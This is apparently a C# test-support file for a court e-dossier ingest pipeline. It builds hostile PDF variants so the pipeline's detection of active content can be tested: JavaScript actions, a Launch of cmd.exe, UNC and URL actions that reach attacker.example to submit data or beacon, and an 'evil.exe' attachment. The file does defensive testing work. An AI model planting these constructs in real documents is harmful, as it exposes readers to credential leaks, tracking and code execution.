using PdfSharp.Pdf;

namespace Court.EDossier.Tests.Ingest.Support;

/// <summary>Ways a hostile PDF carries active content or attachments, each applied to a clean PDFsharp document before saving.</summary>
internal sealed record PdfTampering(string Code, Action<PdfDocument> Apply)
{
    internal static readonly IReadOnlyDictionary<string, PdfTampering> All = new Dictionary<string, PdfTampering>
    {
        ["javascript-open-action"] = new("pdf-active-content", d => d.Internals.Catalog.Elements.SetReference("/OpenAction", Indirect(d, JavaScript(d)))),
        ["javascript-names-tree"] = new("pdf-active-content", d => d.Internals.Catalog.Elements["/Names"] =
            Dict(d, ("/JavaScript", Dict(d, ("/Names", new PdfArray(d, new PdfString("init"), Indirect(d, JavaScript(d)).Reference!)))))),
        ["javascript-page-additional-action"] = new("pdf-active-content", d => d.Pages[0].Elements["/AA"] = Dict(d, ("/O", JavaScript(d)))),
        ["javascript-link-annotation"] = new("pdf-active-content", d => d.Pages[0].Elements["/Annots"] = new PdfArray(d, Annotation(d, "/Link", ("/A", JavaScript(d))))),
        ["launch-action"] = new("pdf-active-content", d => d.Internals.Catalog.Elements["/OpenAction"] =
            Dict(d, ("/S", new PdfName("/Launch")), ("/F", new PdfString("C:\\Windows\\System32\\cmd.exe")))),
        ["xfa-form"] = new("pdf-active-content", d => d.Internals.Catalog.Elements["/AcroForm"] =
            Dict(d, ("/Fields", new PdfArray(d)), ("/XFA", new PdfString("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"/>")))),
        ["gotor-open-action-to-a-network-path"] = new("pdf-active-content", d => d.Internals.Catalog.Elements["/OpenAction"] =
            Dict(d, ("/S", new PdfName("/GoToR")), ("/F", new PdfString("\\\\attacker.example\\share\\x.pdf")), ("/D", new PdfArray(d, new PdfInteger(0), new PdfName("/Fit"))))),
        ["gotoe-open-action"] = new("pdf-active-content", d => d.Internals.Catalog.Elements["/OpenAction"] =
            Dict(d, ("/S", new PdfName("/GoToE")), ("/D", new PdfArray(d, new PdfInteger(0), new PdfName("/Fit"))))),
        ["submit-form-open-action"] = new("pdf-active-content", d => d.Internals.Catalog.Elements["/OpenAction"] =
            Dict(d, ("/S", new PdfName("/SubmitForm")), ("/F", Dict(d, ("/FS", new PdfName("/URL")), ("/F", new PdfString("https://attacker.example/collect")))))),
        ["import-data-open-action"] = new("pdf-active-content", d => d.Internals.Catalog.Elements["/OpenAction"] =
            Dict(d, ("/S", new PdfName("/ImportData")), ("/F", new PdfString("\\\\attacker.example\\data.fdf")))),
        ["uri-open-action"] = new("pdf-active-content", d => d.Internals.Catalog.Elements["/OpenAction"] =
            Dict(d, ("/S", new PdfName("/URI")), ("/URI", new PdfString("https://attacker.example/beacon")))),
        ["uri-link-annotation"] = new("pdf-active-content", d => d.Pages[0].Elements["/Annots"] = new PdfArray(d,
            Annotation(d, "/Link", ("/A", Dict(d, ("/S", new PdfName("/URI")), ("/URI", new PdfString("https://attacker.example/")))))) ),
        ["submit-form-link-annotation"] = new("pdf-active-content", d => d.Pages[0].Elements["/Annots"] = new PdfArray(d,
            Annotation(d, "/Link", ("/A", Dict(d, ("/S", new PdfName("/SubmitForm")), ("/F", new PdfString("https://attacker.example/"))))))),
        ["document-additional-action-gotor"] = new("pdf-active-content", d => d.Internals.Catalog.Elements["/AA"] =
            Dict(d, ("/WC", Dict(d, ("/S", new PdfName("/GoToR")), ("/F", new PdfString("\\\\attacker.example\\x.pdf")))))),
        ["file-attachment-annotation"] = new("pdf-embedded-files", d => d.Pages[0].Elements["/Annots"] = new PdfArray(d,
            Annotation(d, "/FileAttachment", ("/FS", Dict(d, ("/Type", new PdfName("/Filespec")), ("/F", new PdfString("evil.exe"))))))),
    };

    private static PdfDictionary JavaScript(PdfDocument d) => Dict(d, ("/S", new PdfName("/JavaScript")), ("/JS", new PdfString("app.alert('借款合同');")));

    private static PdfDictionary Annotation(PdfDocument d, string subtype, params (string, PdfItem)[] more) =>
        Dict(d, [("/Type", new PdfName("/Annot")), ("/Subtype", new PdfName(subtype)),
            ("/Rect", new PdfArray(d, new PdfInteger(50), new PdfInteger(50), new PdfInteger(100), new PdfInteger(100))), .. more]);

    private static PdfDictionary Indirect(PdfDocument d, PdfDictionary dictionary)
    {
        d.Internals.AddObject(dictionary);
        return dictionary;
    }

    private static PdfDictionary Dict(PdfDocument d, params (string Key, PdfItem Value)[] entries)
    {
        var dictionary = new PdfDictionary(d);
        foreach (var (key, value) in entries) dictionary.Elements[key] = value;
        return dictionary;
    }
}
